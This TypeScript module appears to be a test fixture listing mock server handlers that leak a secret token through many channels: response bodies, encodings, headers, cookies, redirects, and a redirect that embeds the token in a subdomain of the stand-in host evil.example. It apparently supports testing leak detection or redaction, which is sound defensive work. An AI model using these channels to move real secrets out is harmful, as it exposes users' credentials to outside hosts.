import type { ServerResponse } from 'node:http';

/** What a server knows that wants to tell a secret which it was sent. */
export interface Leak {
  token: string;
  /** The host of the server, and another server that is allowed too. */
  host: string;
  other: string;
}

const inHost = (token: string): string => token.replaceAll(/[^a-z0-9]/gi, '').toLowerCase();
const redirect = (response: ServerResponse, location: string): unknown => response.writeHead(302, { location }).end();
const hex = (token: string): string => Buffer.from(token).toString('hex');

/** The ways in which servers tell the model, the log or another server a secret that they were sent. Add one a line. */
export const LEAKS: Readonly<Record<string, (response: ServerResponse, leak: Leak) => unknown>> = {
  'in its answer': (response, { token }) => response.end(`{"token":"${token}"}`),
  'in an error': (response, { token }) => response.writeHead(500).end(token),
  'in an error of the key': (response, { token }) => response.writeHead(401).end(token),
  'in the reason of its status': (response, { token }) => response.writeHead(400, token.replaceAll('/', ' ')).end(),
  'in base64': (response, { token }) => response.end(Buffer.from(`x${token}`).toString('base64')),
  'in hex': (response, { token }) => response.end(hex(token)),
  'percent-encoded': (response, { token }) => response.end(encodeURIComponent(token)),
  reversed: (response, { token }) => response.end(token.split('').toReversed().join('')),
  'in its type': (response, { token }) => response.writeHead(200, { 'content-type': `text/${hex(token)}` }).end('x'),
  'in when to retry': (response, { token }) => response.writeHead(429, { 'retry-after': hex(token) }).end('x'),
  'in a header': (response, { token }) =>
    response.writeHead(200, { 'x-token': token, etag: `"${hex(token)}"` }).end('x'),
  'in a cookie': (response, { token }) =>
    response.writeHead(200, { 'set-cookie': `a=${encodeURIComponent(token)}` }).end('x'),
  'in its encoding': (response, { token }) => response.writeHead(200, { 'content-encoding': hex(token) }).end('x'),
  'in the query of a redirect': (response, { token }) => redirect(response, `/landed?t=${encodeURIComponent(token)}`),
  'in the path of a redirect': (response, { token }) => redirect(response, `/landed/${hex(token)}`),
  'in the query of a redirect to another host': (response, { token, other }) =>
    redirect(response, `http://${other}/?t=${encodeURIComponent(token)}`),
  'in a host that nobody allows': (response, { token }) => redirect(response, `http://${inHost(token)}.evil.example/`),
  'in a host that begins like its own': (response, { token, host }) =>
    redirect(response, `http://${inHost(token)}.${host}/`),
  'in the user of a redirect': (response, { token, host }) => redirect(response, `http://${inHost(token)}@${host}/`),
  'in a scheme': (response, { token }) => redirect(response, `x${inHost(token)}://here/`),
  'in an address that is none': (response, { token }) => redirect(response, `http://[${hex(token)}/`),
  'and breaks off': (response, { token }) => response.writeHead(200, { 'x-token': token }).destroy(),
  'in the middle of an answer that breaks off': (response, { token }) => {
    response.writeHead(200, { 'content-length': '9999' }).write(`{"token":"${token}"`);
    setTimeout(() => response.destroy(), 20);
  },
};
